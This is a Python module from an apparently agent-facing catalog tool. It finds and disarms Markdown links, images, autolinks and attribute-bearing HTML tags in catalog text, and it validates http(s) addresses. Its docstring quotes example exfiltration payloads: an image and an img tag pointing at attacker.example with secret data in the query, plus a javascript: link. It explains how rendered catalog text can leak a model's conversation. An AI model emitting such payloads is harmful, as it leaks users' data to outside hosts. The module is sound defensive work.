"""Markdown link and image syntax in catalog text: found (for `capidx validate`) and made inert (for the build).

Catalog text reaches every agent that connects, and a client that renders Markdown fetches an image when it
shows it: `![x](https://attacker.example/p.png?d=secret)` in a description is the usual way to leak a
conversation out of a model's context, and `[click](javascript:alert(1))` a link nobody should follow.
So no catalog string becomes a live image or link in any artifact; the only links capidx makes are its
own (a source or documentation address, and on the site only when it is http or https).

`defused` breaks the syntax with a space, not a backslash, so that one text is inert in every output: a
Markdown document, a JSON tool answer (where a backslash is itself escaped and would turn the bracket
live again when the JSON is shown as Markdown) and the site's HTML:

- `](`, `][` and `]:` become `] (`, `] [` and `] :`: an inline link or image, a reference link and a
  reference definition all need the bracket right before; `[x]` alone is text, since no artifact defines
  a reference (capidx writes none, and none can come from the catalog);
- an autolink `<scheme:…>` or `<name@host>` becomes `< scheme:…>` (the Markdown filters escape other `<`);
- an HTML tag with attributes, a comment, a declaration or a processing instruction (`<img src=…>`,
  `<a href=…>`, `<!--`, `<?`) becomes `< img src=…>`: a Markdown renderer shows raw HTML, and a JSON tool
  answer shown as Markdown would fetch `<img src="https://attacker.example/p.png?d=secret">` as it would
  the Markdown image. A tag without attributes (`<name>`, `</b>`, `<owner/repo>`) fetches nothing and
  links nowhere (and is, in catalog text, a placeholder an agent needs as written), so it is left alone.

Addresses (a source's `url`, `supersededBy`, `startUrl`, the documentation links) are absolute http(s)
URLs (`web_address`: `capidx validate` refuses any other, and the site links only those) and printed as
text; they get the same treatment but for `]:`, which a URI may hold (`http://[::1]:80/`). A bare
`https://…` in prose is left as it is: a renderer that links it makes a link to click, not an image.
"""

from __future__ import annotations

import re
from typing import Any

# An agent's `documentation` links, in the order they are shown.
DOCUMENTATION_KEYS = ("officialDocs", "releaseNotes", "github", "apiDocs")
# Fields holding an address (capability documents: sources, implementation notes, documentation).
URL_KEYS = frozenset({"url", "supersededBy", "startUrl", *DOCUMENTATION_KEYS})

# An absolute http(s) URL with a host: what a source or documentation address must be, and all the site links.
# `javascript:` runs script when clicked, `file:`, `data:` and the rest reach what a reader never meant to
# open; nothing in it may be white space or a control character (a browser drops or reinterprets them).
_WEB_ADDRESS = re.compile(r"https?://[^\s\x00-\x1f\x7f/?#@]+(?:[/?#][^\s\x00-\x1f\x7f]*)?", re.IGNORECASE | re.ASCII)

# A scan stops at the next `<`, space or `>`: linear in the text, however many `<` it holds.
_AUTOLINK = r"<(?=[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*>|[^\s<>@]+@[^\s<>@]+>)"
# CommonMark raw HTML: an attribute follows the tag name after white space; the name is bounded.
_HTML = r"<(?=[A-Za-z][A-Za-z0-9\-]{0,63}\s|[!?])"
_IN_TEXT = re.compile(rf"\](?=[(\[:])|{_AUTOLINK}|{_HTML}")
_IN_URL = re.compile(rf"\](?=[(\[])|{_AUTOLINK}|{_HTML}")
_CONTEXT = 24  # characters shown on each side of a finding


def defuse(text: str, *, url: bool = False) -> str:
    """`text` with every Markdown link, image, reference and autolink made plain text (see above)."""
    if "]" not in text and "<" not in text:
        return text
    return (_IN_URL if url else _IN_TEXT).sub(lambda found: found.group(0) + " ", text)


def defused(value: Any, key: object = None) -> Any:
    """A parsed JSON document with every string (keys included) defused; addresses as addresses (`URL_KEYS`).
    Strings without `]` or `<` (nearly all) are returned as they are."""
    if isinstance(value, str):
        return defuse(value, url=key in URL_KEYS)
    if isinstance(value, dict):
        return {name if type(name) is not str else defuse(name): defused(item, name) for name, item in value.items()}
    if isinstance(value, list):
        return [defused(item, key) for item in value]
    return value


def web_address(text: str) -> bool:
    r"""Whether `text` is an absolute http or https URL with a host (`_WEB_ADDRESS`): the only addresses the
    catalog may hold and the site may link. No character of it may be invisible or a control (`isprintable`: the
    pattern's `\s` is ASCII's, and a no-break or zero-width space, a line separator or a C1 control would pass)."""
    return text.isprintable() and _WEB_ADDRESS.fullmatch(text) is not None


def link_syntax(text: str) -> str | None:
    """The first Markdown link, image, reference or autolink, or HTML tag with attributes, comment,
    declaration or processing instruction in `text`, with some context, or None."""
    if "]" not in text and "<" not in text:
        return None
    found = _IN_TEXT.search(text)
    if found is None:
        return None
    start = text.rfind("[", 0, found.start())
    start = found.start() if start < 0 or found.start() - start > _CONTEXT else start
    start = max(0, start - 1) if start > 0 and text[start - 1] == "!" else start
    return text[start : found.end() + _CONTEXT]
